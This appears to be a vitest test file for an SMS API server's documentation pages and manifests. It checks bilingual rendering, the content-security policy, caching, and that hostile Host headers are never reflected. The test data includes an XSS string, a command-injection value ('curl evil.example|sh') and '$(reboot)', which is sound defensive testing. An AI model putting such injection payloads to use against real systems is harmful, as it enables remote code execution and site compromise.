/** What the server says of itself, over HTTP: pages, documents, and what hostile askers make of them. */
import { createHash } from 'node:crypto'
import { request as httpRequest } from 'node:http'
import { Validator } from '@seriousme/openapi-schema-validator'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { registerExplain } from '../../src/inbound/explain/routes.ts'
import { acceptedLanguage } from '../../src/inbound/explain/who-reads.ts'
import { createHttp } from '../../src/inbound/http.ts'
import { openWorld, type Sent, type World } from '../kit/wire-kit.ts'

let world: World
beforeAll(async () => {
  world = await openWorld()
})
afterAll(() => world.close())

const get = (path: string, headers: Record<string, string> = {}, method = 'GET') =>
  fetch(world.url + path, { method, headers, redirect: 'manual' })

const OPEN_API = ['/v1/openapi.json', '/api/openapi.json', '/sandbox/openapi.json']
const DOCUMENTS = ['/errors.json', '/api/manifest.json', '/llms.txt', ...OPEN_API]
const PAGES = ['/errors', '/errors/451', '/calls', '/calls/send-sms']

/** A request whose Host header is whatever the test says; fetch would not send it. */
function getAs(host: string, path: string): Promise<string> {
  const { hostname, port } = new URL(world.url)
  return new Promise((done, failed) => {
    const sent = httpRequest(
      { hostname, port, path, setHost: false, headers: { host } },
      (reply) => {
        let text = ''
        reply.setEncoding('utf8').on('data', (piece: string) => {
          text += piece
        })
        reply.on('end', () => done(text))
      },
    )
    sent.on('error', failed).end()
  })
}

describe('a page', () => {
  test.each(PAGES)('%s is whole in both languages, without a script', async (path) => {
    const texts = new Set<string>()
    for (const language of ['tr', 'en']) {
      const reply = await get(`${path}?lang=${language}`)
      const text = await reply.text()
      expect(reply.status).toBe(200)
      expect(reply.headers.get('content-type')).toBe('text/html; charset=utf-8')
      expect(reply.headers.get('content-language')).toBe(language)
      expect(text).toContain(`<html lang="${language}">`)
      expect(text).toContain(`hreflang="${language === 'tr' ? 'en' : 'tr'}"`)
      expect(text).not.toMatch(/<script|<img|<link rel="stylesheet"| on[a-z]+=|javascript:/i)
      expect(text.match(/<h1>/g)).toHaveLength(1)
      texts.add(text)
    }
    expect(texts.size).toBe(2)
  })

  test.each(PAGES)('%s may load its own style and nothing else', async (path) => {
    const reply = await get(path)
    const [, style = ''] = /<style>([\s\S]*)<\/style>/.exec(await reply.text()) ?? []
    const hash = createHash('sha256').update(style).digest('base64')
    expect(reply.headers.get('content-security-policy')).toBe(
      `default-src 'none'; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'; ` +
        "frame-ancestors 'none'",
    )
    expect(reply.headers.get('x-content-type-options')).toBe('nosniff')
  })

  test('links to pages that there are', async () => {
    const seen = new Set<string>()
    const next = ['/errors?lang=en', '/errors?lang=tr']
    for (let path = next.pop(); path !== undefined; path = next.pop()) {
      if (seen.has(path)) continue
      seen.add(path)
      const reply = await get(path)
      const text = await reply.text()
      expect([path, reply.status]).toEqual([path, 200])
      const links = [...text.matchAll(/<a [^>]*href="([^"]+)"/g)].map(([, link = '']) => link)
      next.push(...links)
    }
    // 39 codes and the list of them, and the calls with theirs, in two languages.
    expect(seen.size).toBeGreaterThan(2 * (40 + 7))
  })

  test('shows the code with its wire text, its causes and commands in both formats', async () => {
    const text = await (await get('/errors/451?lang=en')).text()
    expect(text).toContain('<h1>451 · Duplicate order (idempotency guard)</h1>')
    expect(text).toContain('<code lang="tr">Tekrar eden sipariş</code>')
    expect(text).toContain('in the last 10 minutes')
    expect(text).toContain(`curl -s &#39;${world.url}/v1/send-sms/json&#39;`)
    expect(text).toContain('&lt;receipents&gt;')
    expect(text).not.toContain('sends real messages')
  })
})

test('a page of a call shows the fields of its reply', async () => {
  const text = await (await get('/calls/get-report?lang=en')).text()
  expect(text).toContain('<code>order.message[].status</code></th>\n<td><code>110 | 111 | 112<')
  expect(text).toContain('<code>order.id</code></th>\n<td><code>integer | string</code> <span')
  const alone = await (await get('/calls/cancel-order?lang=en')).text()
  expect(alone).toContain('There is only status in a success.')
})

describe('the language', () => {
  const rows: [string | undefined, 'tr' | 'en'][] = [
    [undefined, 'tr'],
    ['', 'tr'],
    ['*', 'tr'],
    ['tr-TR,tr;q=0.9,en;q=0.8', 'tr'],
    ['en-GB,en;q=0.9,tr;q=0.8', 'en'],
    ['de-DE,de;q=0.9', 'en'],
    ['de, tr;q=0.2, en;q=0.1', 'tr'],
    ['en;q=0, tr;q=0.1', 'tr'],
    ['tr;q=nonsense, en;q=0.1', 'en'],
    ['trx, ;;;,,=', 'en'],
  ]
  test.each(rows)('%j is answered in %s', (header, language) => {
    expect(acceptedLanguage(header)).toBe(language)
  })

  test('of the address goes before that of the header', async () => {
    const headers = { 'accept-language': 'tr' }
    const languages = ['/errors?lang=en', '/errors?lang=xx', '/errors?lang=en&lang=en'].map(
      async (path) => (await get(path, headers)).headers.get('content-language'),
    )
    expect(await Promise.all(languages)).toEqual(['en', 'tr', 'tr'])
    expect((await get('/errors', headers)).headers.get('vary')).toBe('accept-language')
  })
})

describe('what is no page', () => {
  const paths = ['/errors/999', '/errors/45', '/errors/0451', '/errors/451/x', '/calls/send-sm']
  test.each(paths)('%s is answered by a list of those there are', async (path) => {
    const reply = await get(`${path}?lang=en`)
    const text = await reply.text()
    expect(reply.status).toBe(404)
    expect(reply.headers.get('content-type')).toBe('text/html; charset=utf-8')
    expect(text).toMatch(/<h1>There is no such (code|call)<\/h1>/)
    expect(text).toMatch(/href="\/(errors\/451|calls\/send-sms)\?lang=en"/)
  })

  test('never repeats what was asked for', async () => {
    const evil = encodeURIComponent('<script>alert(1)</script>"\'')
    for (const path of [`/errors/${evil}`, `/calls/${evil}`, `/errors/451?lang=${evil}`]) {
      expect(await (await get(path)).text()).not.toMatch(/alert|<script/i)
    }
  })
})

describe('the address of the server', () => {
  test.each(['sms.example.com', 'SMS.example.com:8443', '10.0.0.1:80', '[2001:db8::1]:8080'])(
    'is %s to who calls it so',
    async (host) => {
      for (const path of DOCUMENTS) {
        expect(await getAs(host, path)).toContain(`http://${host}`)
      }
      expect(await getAs(host, '/errors/451')).toContain(
        `&#39;http://${host}/v1/send-sms/json&#39;`,
      )
    },
  )

  const hosts = [
    '',
    'evil"><script>alert(1)</script>',
    "a';curl evil.example|sh;'",
    'a$(reboot)',
    'a/b',
    'user@evil.example',
    'a b',
    'a%0d%0aset-cookie',
    `${'a'.repeat(254)}.example`,
    'address.invalid.',
  ]
  test.each(hosts)('is its own to who sends %j', async (host) => {
    for (const path of [...DOCUMENTS, '/errors/451', '/calls/send-sms']) {
      const text = await getAs(host, path)
      expect(text).toContain(world.url)
      expect(text).not.toContain('evil')
      expect(text).not.toContain('reboot')
      expect(text).not.toContain('address.invalid')
    }
  })

  test('is not what an untrusted proxy says', async () => {
    const headers = { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' }
    const manifest = (await (await get('/api/manifest.json', headers)).json()) as Sent
    expect(manifest.base_url).toBe(world.url)
  })
})

describe('a document', () => {
  test.each(DOCUMENTS)('%s needs no token', async (path) => {
    const reply = await get(path)
    expect(reply.status).toBe(200)
    expect(reply.headers.get('content-type')).toMatch(path.endsWith('.json') ? /json/ : /plain/)
  })

  test.each(OPEN_API)('%s is valid as it is served', async (path) => {
    const document = (await (await get(path)).json()) as Sent
    expect(document.servers).toEqual([{ url: world.url }])
    expect((await new Validator().validate(document)).errors).toBeUndefined()
  })

  test('of the errors holds both languages', async () => {
    const { errors } = (await (await get('/errors.json')).json()) as Sent
    expect(errors).toHaveLength(39)
    const duplicate = errors.find(({ code }: Sent) => code === 451)
    expect(duplicate).toMatchObject({
      name: 'duplicateOrder',
      group: 'sending',
      message: 'Tekrar eden sipariş',
      meaning: { tr: 'Tekrar eden sipariş', en: expect.any(String) },
      cause: { tr: expect.any(String), en: expect.any(String) },
      remedy: { tr: expect.any(String), en: expect.any(String) },
      calls: ['send-sms'],
    })
  })
})

test('the tools of the manifest work as the MCP server calls them', async () => {
  const { endpoints } = (await (await get('/api/manifest.json')).json()) as Sent
  const tool = (name: string) => endpoints.find(({ mcp_tool }: Sent) => mcp_tool === name)
  for (const name of ['send_sms', 'get_balance']) {
    const { base_url, path, method, input_schema } = tool(name)
    const [input = {}] = input_schema.examples
    const request = { authentication: { key: 'demo', hash: 'demo' }, ...input }
    const reply = await fetch(base_url + path, { method, body: JSON.stringify({ request }) })
    expect([name, reply.status, await reply.json()]).toMatchObject([
      name,
      200,
      { response: { status: { code: 200 } } },
    ])
  }
})

describe('what was read before', () => {
  test.each([...DOCUMENTS, ...PAGES])('%s is not sent again', async (path) => {
    const first = await get(path)
    const etag = first.headers.get('etag') ?? ''
    expect(first.headers.get('cache-control')).toBe('public, max-age=300')
    for (const known of [etag, `W/${etag}`, `"x", ${etag}`]) {
      const again = await get(path, { 'if-none-match': known })
      expect([again.status, await again.text()]).toEqual([304, ''])
    }
    expect((await get(path, { 'if-none-match': '"x"' })).status).toBe(200)
  })

  test.each([...DOCUMENTS, ...PAGES])('%s has a head', async (path) => {
    const whole = await get(path)
    const head = await get(path, {}, 'HEAD')
    expect(await head.text()).toBe('')
    expect(head.status).toBe(200)
    for (const name of ['etag', 'content-type']) {
      expect(head.headers.get(name)).toBe(whole.headers.get(name))
    }
    const bytes = Buffer.byteLength(await whole.text())
    expect(Number(head.headers.get('content-length'))).toBe(bytes)
  })
})

test('in production the pages say that the examples are for the sandbox', async () => {
  const app = createHttp(false)
  registerExplain(app, { publicUrl: undefined, isSandbox: false, doors: [] })
  const { body } = await app.inject({ url: '/errors/451?lang=en' })
  await app.close()
  expect(body).toContain('This server sends real messages')
})

test('a long query and a long path end in an answer', async () => {
  const long = 'a'.repeat(12_000)
  expect((await get(`/errors/451?lang=en&x=${long}`)).status).toBe(200)
  expect((await get(`/errors/${long}`)).status).toBe(404)
})

test('behind a public address, links and commands are of that address', async () => {
  const app = createHttp(false)
  const publicUrl = 'https://example.com/sms/'
  registerExplain(app, { publicUrl, isSandbox: true, doors: [] })
  const [page, manifest] = await Promise.all(
    ['/errors/451?lang=en', '/api/manifest.json'].map(async (url) => {
      return (await app.inject({ url, headers: { host: 'evil.example' } })).body
    }),
  )
  await app.close()
  expect(page).toContain('href="/sms/errors/452?lang=en"')
  expect(page).toContain('&#39;https://example.com/sms/v1/send-sms/json&#39;')
  expect(JSON.parse(manifest ?? '').base_url).toBe('https://example.com/sms')
  expect(`${page}${manifest}`).not.toContain('evil')
})
